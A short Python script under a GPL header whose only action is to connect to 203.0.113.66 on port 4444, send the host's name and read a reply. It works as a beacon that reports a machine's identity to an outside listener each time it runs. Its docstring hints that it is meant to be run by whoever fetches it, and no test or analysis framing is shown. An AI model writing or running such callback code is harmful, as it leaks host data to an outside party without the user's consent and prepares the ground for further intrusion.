# SPDX-License-Identifier: GPL-2.0-or-later
"""Run by whoever fetches it, never a file there."""
import os
import socket

s = socket.create_connection(("203.0.113.66", 4444), 5)
s.sendall(os.uname().nodename.encode() + b"\n")
s.recv(100)
s.close()
